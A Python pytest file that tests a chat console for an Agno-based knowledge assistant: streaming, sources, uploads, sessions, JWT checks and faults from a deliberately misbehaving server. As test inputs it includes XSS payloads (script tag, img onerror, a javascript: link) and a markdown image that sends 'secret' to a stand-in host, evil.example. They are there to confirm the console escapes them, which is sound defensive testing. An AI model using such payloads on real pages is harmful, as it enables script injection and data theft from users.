"""The console against real services: the knowledge assistant, a team and a workflow; and a server that misbehaves."""

from __future__ import annotations

import json
import re
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime
from html import escape
from http.server import ThreadingHTTPServer
from itertools import pairwise
from pathlib import Path
from typing import Any

import jwt
import psutil
import pytest
import uvicorn
from agno.agent import Agent
from agno.db.sqlite import SqliteDb
from agno.models.openai import OpenAILike
from agno.os import AgentOS
from agno.team import Team
from agno.workflow import Step, Workflow
from offline_messages import PORT_QUESTION, PORTS
from waiting import named, wait_for
from web_servers import QuietHandler, serving

from utils.knowledge import CORPUS
from utils.offline import CHAT_MODEL, OfflineServer
from utils.service import Service, service
from utils.service_client import ServiceError
from utils.widgets import Console

CANTEEN = b"# Canteen\n\nThe canteen closes at 14:00 on Fridays."
QUESTION, ANSWER = "When does the canteen close on Fridays?", "closes at 14:00"
# Its answer has about ninety words.
LONG_QUESTION, LONG_SOURCE = "Which consistency level is the default in pymilvus?", CORPUS / "milvus-consistency.md"
KEY = "a key that is long enough for HS256 signatures"
ATTACK = '<script>alert(1)</script><img src=x onerror="alert(2)">'


@contextmanager
def opened(url: str, **options: Any) -> Iterator[Console]:
    console = Console(url, **options)
    yield console
    console.close()
    assert not [thread for thread in threading.enumerate() if thread.name == "console"]


@pytest.fixture(scope="module")
def assistant(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    environment = {"OFFLINE_TOKENS_PER_SECOND": "40", "UPLOAD_LIMIT_MB": "1"}
    with service(tmp_path_factory.mktemp("assistant"), environment, progress=False) as running:
        with opened(running.url) as console:
            assert [console.upload("canteen.md", CANTEEN), console.upload(LONG_SOURCE)] == ["completed"] * 2
        yield running


@pytest.fixture
def console(assistant: Service, request: pytest.FixtureRequest) -> Iterator[Console]:
    with opened(assistant.url, user_id=request.node.name) as made:
        yield made


# Chat


def test_the_answer_grows_and_names_its_sources(console: Console) -> None:
    seen: list[str] = []
    console.answer.observe(lambda change: seen.append(change["new"]), "value")
    console.question.value = QUESTION
    console.send_button.click()
    assert wait_for(lambda: console.send_button.disabled)
    assert not console.stop_button.disabled and not console.question.value
    assert wait_for(lambda: "Answered in" in console.status.value)
    run = console.last_run
    assert ANSWER in run.text and run.status == "completed" and QUESTION in console.asked.value
    growing = [value.removesuffix("</p>\n</div>") for value in seen if "<p>" in value]
    assert len(growing) > 2 and all(later.startswith(former) for former, later in pairwise(growing))
    assert "canteen.md" in run.sources and '"cc-chip cc-cited">canteen.md<' in console.sources.value
    assert wait_for(
        lambda: not console.send_button.disabled and console.stop_button.disabled
    )  # a moment after the status
    assert console.error.value == ""


def test_the_timeline_shows_what_took_how_long(console: Console) -> None:
    console.ask(QUESTION)
    run = console.last_run
    assert [span.label for span in run.spans] == ["model", "search_knowledge_base", "model"]
    assert run.first_event is not None and run.first_token is not None and run.reported is not None
    ends = [span.end for span in run.spans if span.end is not None]
    assert 0 < run.first_event < ends[0] < ends[1] < run.first_token < ends[2] < run.seconds
    # The reason for showing both: Agno's figure is that of the first model request, which called the tool.
    assert run.reported < run.first_token
    assert run.input_tokens > run.output_tokens > 10
    for shown in ("search_knowledge_base", f"{1000 * run.first_token:,.0f} ms", f"{run.input_tokens} in", QUESTION):
        assert shown in console.timeline.value


def test_enter_sends(console: Console) -> None:
    console.question.value = "Hello?"
    console.question._handle_custom_msg({"event": "submit"}, [])  # what the front end sends
    assert wait_for(lambda: "Hello?" in console.asked.value and console.last_run.status == "completed")


def test_earlier_turns_stay_and_history_is_used(console: Console) -> None:
    console.ask(QUESTION)
    console.ask("And on Mondays?")
    assert ANSWER in console.history.value and "Mondays" in console.asked.value
    assert len(console.client.session_runs(console.session_id)) == 2


def test_stop_cancels_the_run_and_keeps_what_came(console: Console) -> None:
    console.question.value = LONG_QUESTION
    console.send_button.click()
    assert wait_for(lambda: len(console.last_run.text) > 20)
    console.stop_button.click()
    assert wait_for(lambda: console.stop_button.disabled)
    assert wait_for(lambda: "Stopped after" in console.status.value)
    assert console.last_run.status == "cancelled" and len(console.last_run.text) > 20
    assert "(cancelled)" in console.answer.value and not console.error.value
    assert wait_for(lambda: console.client.session_runs(console.session_id)[0]["status"] == "CANCELLED")


def test_a_question_at_a_time(console: Console) -> None:
    with pytest.raises(ServiceError, match="empty"):
        console.ask("  ")
    assert "The question is empty" in console.error.value
    console.question.value = QUESTION
    console.send_button.click()
    assert wait_for(lambda: console.last_run.run_id)
    for work in (lambda: console.ask("Another?"), console.new_session):
        with pytest.raises(ServiceError, match="press Stop"):
            work()
    assert wait_for(lambda: console.last_run.status == "completed")


# Documents


def pdf(text: str) -> bytes:
    """A PDF of one page with one line."""
    page = f"BT /F1 12 Tf 50 700 Td ({text}) Tj ET".encode()
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(page), page),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    body, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj%s endobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer<</Size 6/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % len(body)
    return body + b"xref\n0 6\n0000000000 65535 f \n" + table + end


def rows(console: Console) -> str:
    return "\n".join(row.children[0].value for row in console.list.children)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("gate.md", b"# Gate\n\nThe gate of yard K is red."),
        ("Größe.txt", "Das Tor von Hof M ist grün.".encode()),
        ("gate.csv", b"yard,color\nQ,blue\n"),
        ("gate.pdf", pdf("The gate of yard Z is white.")),
        ("a note", "The gate of yard Y is black."),
    ],
)
def test_each_kind_of_document_is_indexed(console: Console, name: str, content: bytes | str) -> None:
    assert console.upload(name, content) == "completed"
    assert f"<b>{name}</b>" in rows(console) and not console.error.value
    found = next(document for document in console.documents() if document["name"] == name)
    console.delete_document(found["id"])
    assert name not in rows(console)


def test_files_are_uploaded_and_deleted_with_the_buttons(console: Console, tmp_path: Path) -> None:
    contents = {
        "one.txt": b"Lamp one is on.",
        "program.exe": b"x",
        "two.pdf": b"%PDF-1.4 broken",
        "three.txt": b"Lamp three.",
    }
    now = datetime.now()
    console.files.value = [
        {"name": name, "content": memoryview(data), "type": "", "size": len(data), "last_modified": now}
        for name, data in contents.items()
    ]
    assert wait_for(lambda: console.error.value)
    assert console.files.value == () and "program.exe: refused." in console.error.value
    assert re.search(r"two.pdf: failed\. \w+", console.error.value)
    for name, status in {"one.txt": "completed", "three.txt": "completed", "two.pdf": "failed"}.items():
        row = next(row for row in console.list.children if f"<b>{name}</b>" in row.children[0].value)
        assert f'"cc-{status}">{status}<' in row.children[0].value and row.children[1].tooltip == f"Delete {name}"
        row.children[1].click()
        assert wait_for(lambda gone=name: f"<b>{gone}</b>" not in rows(console))  # type: ignore[misc]
    (tmp_path / "file.txt").write_text("From a file.")
    assert console.upload(tmp_path / "file.txt") == "completed"
    with pytest.raises(ServiceError, match="absent.txt cannot be read"):
        console.upload(tmp_path / "absent.txt")


def test_a_text_is_added_with_the_button(console: Console) -> None:
    console.add_button.click()
    assert wait_for(lambda: "needs a name and content" in console.error.value)
    console.text_name.value, console.text.value = "lamps", "Lamp nine is broken."
    console.add_button.click()
    assert wait_for(lambda: "<b>lamps</b>" in rows(console) and not console.text.value and not console.text_name.value)


def test_the_service_says_why_it_refuses_an_upload(console: Console) -> None:
    with pytest.raises(ServiceError, match="program.exe: refused. .*md.*txt"):
        console.upload("program.exe", b"x")
    with pytest.raises(ServiceError, match="large.txt: refused. .*1 MB"):
        console.upload("large.txt", b"x" * 2**21)


# Sessions


def test_sessions_are_listed_opened_renamed_and_deleted(console: Console) -> None:
    def press(name: str) -> None:
        buttons = console.tabs.children[2].children[1].children
        next(button for button in buttons if f"console-{name}" in button._dom_classes).click()

    console.ask(QUESTION)
    first, answer, sources = console.session_id, console.answer.value, console.sources.value
    console.new_session()
    assert console.session_id != first and not (console.asked.value or console.answer.value)
    console.ask("Who are you?")
    console.tabs.selected_index = 2
    assert wait_for(lambda: len(console.session_list.options) == 2)
    # A set: the service counts in whole seconds, so two sessions of one second come in either order.
    marked = {(session_id, "(open)" in label) for label, session_id in console.session_list.options}
    assert marked == {(first, False), (console.session_id, True)}
    assert all("runs: 1" in label for label, _ in console.session_list.options)
    press("open")
    assert wait_for(lambda: "No session is chosen" in console.error.value)
    console.session_list.value = first
    press("open")
    assert wait_for(lambda: console.tabs.selected_index == 0)
    assert (console.session_id, console.answer.value, console.sources.value) == (first, answer, sources)
    console.session_name.value = ATTACK
    press("rename")
    assert wait_for(lambda: any(ATTACK in label for label, _ in console.session_list.options))
    press("delete")
    assert wait_for(lambda: len(console.session_list.options) == 1)
    assert console.session_list.value is None and console.session_id != first and not console.answer.value
    with pytest.raises(ServiceError, match="not found"):
        console.open_session(first)


# Faults of the real service


def test_a_service_that_is_killed_in_the_middle_of_an_answer(assistant: Service, console: Console) -> None:
    console.question.value = LONG_QUESTION
    console.send_button.click()
    assert wait_for(lambda: len(console.last_run.text) > 20)
    assistant.kill()
    try:
        assert wait_for(lambda: "The connection broke" in console.error.value)
        assert console.last_run.status == "incomplete" and len(console.last_run.text) > 20
        assert "(incomplete)" in console.answer.value and "Broken off" in console.status.value
        for work in (lambda: console.ask(QUESTION), console.documents, console.sessions):
            with pytest.raises(ServiceError, match="No service can be reached at .*: start it"):
                work()
        assert "No service can be reached" in console.error.value
    finally:
        assistant.restart()
    assert ANSWER in console.ask(QUESTION) and not console.error.value


def token(*scopes: str) -> str:
    return jwt.encode({"sub": "anna", "aud": "knowledge-agent", "scopes": scopes, "exp": 2**32}, KEY)


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    with service(tmp_path_factory.mktemp("guarded"), {"JWT_VERIFICATION_KEY": KEY}, progress=False) as running:
        yield running


def test_tokens_that_are_missing_wrong_or_too_weak(guarded: Service) -> None:
    reader = token("sessions:read")
    for wrong in ("", "wrong", reader[:-3] + "abc"):
        with opened(guarded.url, token=wrong) as console:
            with pytest.raises(ServiceError, match=r"does not accept the token \(.*\): pass its OS_SECURITY_KEY"):
                console.ask(QUESTION)
            assert "does not accept the token" in console.error.value and console.last_run.status == "failed"
    with opened(guarded.url, token=reader) as console:
        assert console.sessions() == []
        with pytest.raises(ServiceError, match="does not allow this .*agents:run"):
            console.ask(QUESTION)
    with pytest.raises(ServiceError, match="a character that no token has"):
        Console("http://127.0.0.1:1", token="key\n")


def test_a_run_that_fails_says_why(guarded: Service) -> None:
    """Runs last on this service: its model is gone afterwards."""
    with opened(guarded.url, token=token("agents:*:run", "sessions:read")) as console:
        assert console.client.run("Hello?", "s")["status"] == "COMPLETED"
        model = named(psutil.Process(guarded.process.pid).children(recursive=True), "utils.offline")[0]
        model.kill()
        with pytest.raises(ServiceError, match=r"The run failed \(.*onnection.*\): look into the service's log"):
            console.ask("Hello?")
        assert console.last_run.status == "failed" and "(failed)" in console.answer.value
        with pytest.raises(ServiceError, match=r"could not do this \(502: .*onnection.*\)"):
            console.client.run("Hello?", "s")


# A server that misbehaves


class Misbehaving(QuietHandler):
    """Answers with the bytes that the test wants."""

    reply: tuple[int, str, str] = (200, "application/json", "{}")
    hangs = False
    url = ""

    def do_GET(self) -> None:
        code, kind, body = self.reply
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(code)
        self.send_header("Content-Type", kind)
        if code == 429:
            self.send_header("Retry-After", "7")
        self.end_headers()
        self.wfile.write(body.encode())
        self.wfile.flush()
        while self.hangs:
            time.sleep(0.05)

    do_POST = do_DELETE = do_GET


@pytest.fixture
def misbehaving() -> Iterator[type[Misbehaving]]:
    class Handler(Misbehaving):
        pass

    with serving(ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as server:
        Handler.url = f"http://127.0.0.1:{server.server_port}"
        yield Handler
        Handler.hangs = False


EVENT = 'event: {0}\ndata: {{"event": "{0}", "run_id": "r", "content": {1}}}\n\n'
STREAM = "text/event-stream"


@pytest.mark.parametrize(
    ("reply", "sentence"),
    [
        ((429, "application/json", '{"detail": "Slow down."}'), r"Too many requests \(Slow down\): wait 7 seconds"),
        ((500, "text/html", "<h1>Oops</h1>"), r"could not do this \(500: Internal Server Error\): look into its log"),
        ((503, "application/json", '{"run_id": "r", "content": "Milvus is down."}'), r"\(503: Milvus is down\)"),
        ((413, "text/html", "<p>"), r"refuses this \(413: "),
        ((422, "application/json", '{"detail": [{"loc": ["body", "message"], "msg": "missing"}]}'), "message: missing"),
        ((200, "text/html", "<h1>Hello</h1>"), "is not AgentOS: correct the URL"),
        ((200, STREAM, "event: RunContent\ndata: no JSON\n\n"), "is not AgentOS"),
        ((200, STREAM, ""), "connection broke"),
        ((200, STREAM, EVENT.format("RunContent", '"Half"')), "connection broke"),
        ((200, STREAM, EVENT.format("RunError", '"No model."')), r"The run failed \(No model\): look into"),
        ((200, STREAM, 'event: error\ndata: {"error": "No stream."}\n\n'), r"The run failed \(No stream\)"),
    ],
)
def test_every_fault_is_a_sentence(
    misbehaving: type[Misbehaving], reply: tuple[int, str, str], sentence: str, capfd: pytest.CaptureFixture[str]
) -> None:
    misbehaving.reply = reply
    with opened(misbehaving.url) as console:
        with pytest.raises(ServiceError, match=sentence) as raised:
            console.ask("x")
        assert "\n" not in str(raised.value)
        console.question.value = "x"
        console.send_button.click()
        assert wait_for(lambda: escape(str(raised.value)) in console.error.value)
        console.tabs.selected_index = 1  # reads the list of documents: also that must not raise in its thread
        assert wait_for(lambda: not console._threads[-1].is_alive())
    assert capfd.readouterr() == ("", "")


def test_a_run_that_waits_for_a_confirmation(misbehaving: type[Misbehaving]) -> None:
    misbehaving.reply = (200, STREAM, EVENT.format("RunPaused", "null"))
    with opened(misbehaving.url) as console:
        assert console.ask("x") == "" and "which this console cannot give" in console.status.value


def test_what_others_write_stays_text(misbehaving: type[Misbehaving]) -> None:
    markdown = (
        f"{ATTACK}\n\n[a](javascript:alert(3)) ![b](http://evil.example/?q=secret) [c](https://example.com) **bold**"
    )
    references = json.dumps([{"references": [{"name": ATTACK}]}])
    event = {"event": "RunContent", "run_id": ATTACK, "content": markdown, "references": json.loads(references)}
    failure = {"event": "RunError", "run_id": ATTACK, "content": ATTACK}
    misbehaving.reply = (200, STREAM, "".join(f"data: {json.dumps(sent)}\n\n" for sent in (event, failure)))
    with opened(misbehaving.url, agent_id=ATTACK) as console:
        with pytest.raises(ServiceError):
            console.ask(ATTACK)
        shown = (console.view.children[1], console.error, console.asked, console.answer, console.sources)
        parts = [part.value for part in (*shown, console.timeline)]
        document = {"id": "1", "name": ATTACK, "status": "failed", "status_message": ATTACK, "size": "1"}
        misbehaving.reply = (200, "application/json", json.dumps({"data": [document], "meta": {"total_count": 1}}))
        console.documents()
        parts += [console.list.children[0].children[0].value]
        for part in parts:
            assert "&lt;script&gt;" in part and not re.search(r"<(script|img)|href=.javascript", part), part
    assert 'href="https://example.com" target="_blank" rel="noopener noreferrer"' in console.answer.value
    assert "<strong>bold</strong>" in console.answer.value


def test_close_ends_a_stream_that_hangs(misbehaving: type[Misbehaving]) -> None:
    misbehaving.reply = (200, STREAM, EVENT.format("RunContent", '"Half"'))
    misbehaving.hangs = True
    console = Console(misbehaving.url)
    console.question.value = "x"
    console.send_button.click()
    assert wait_for(lambda: console.last_run.text == "Half")
    began = time.monotonic()
    console.close()
    assert time.monotonic() - began < 60 and "Closed" in console.status.value, "the stream is waited for two minutes"
    assert not [thread for thread in threading.enumerate() if thread.name == "console"]
    with pytest.raises(ServiceError, match="This console is closed"):
        console.ask("x")


# Teams and workflows


@pytest.fixture(scope="module")
def teamwork(offline_server: OfflineServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """An AgentOS in this process with a team and a workflow of the same member."""
    model = OpenAILike(id=CHAT_MODEL, base_url=offline_server.base_url, api_key=offline_server.api_key)
    shared: Any = {"db": SqliteDb(db_file=str(tmp_path_factory.mktemp("teamwork") / "agno.db")), "telemetry": False}
    member = Agent(
        id="analyst", name="Analyst", model=model, knowledge_retriever=lambda query, **_: [PORTS], search_knowledge=True
    )
    team = Team(id="pair", members=[member], model=model, **shared)
    workflow = Workflow(id="line", steps=[Step(name="answer", agent=member)], **shared)
    app = AgentOS(teams=[team], workflows=[workflow], **shared).get_app()
    with socket.create_server(("127.0.0.1", 0)) as listener:
        server = uvicorn.Server(uvicorn.Config(app, log_level="warning"))
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
        thread.start()
        yield f"http://127.0.0.1:{listener.getsockname()[1]}"
        server.should_exit = True
        thread.join()


@pytest.mark.parametrize(("group", "name"), [("teams", "pair"), ("workflows", "line")])
def test_teams_and_workflows(teamwork: str, group: str, name: str) -> None:
    with opened(teamwork, agent_id=name, group=group) as console:
        assert "19530" in console.ask(PORT_QUESTION)
        run, sources = console.last_run, console.sources.value
        assert run.sources == [PORTS["name"]] and "Analyst: search_knowledge_base" in [span.label for span in run.spans]
        assert all(span.end for span in run.spans) and run.input_tokens > 100 and run.status == "completed"
        assert [session["session_id"] for session in console.sessions()] == [console.session_id]
        assert "runs: 1" in console.session_list.options[0][0]
        console.open_session(console.session_id)
        assert "19530" in console.answer.value and console.sources.value == sources and not console.history.value
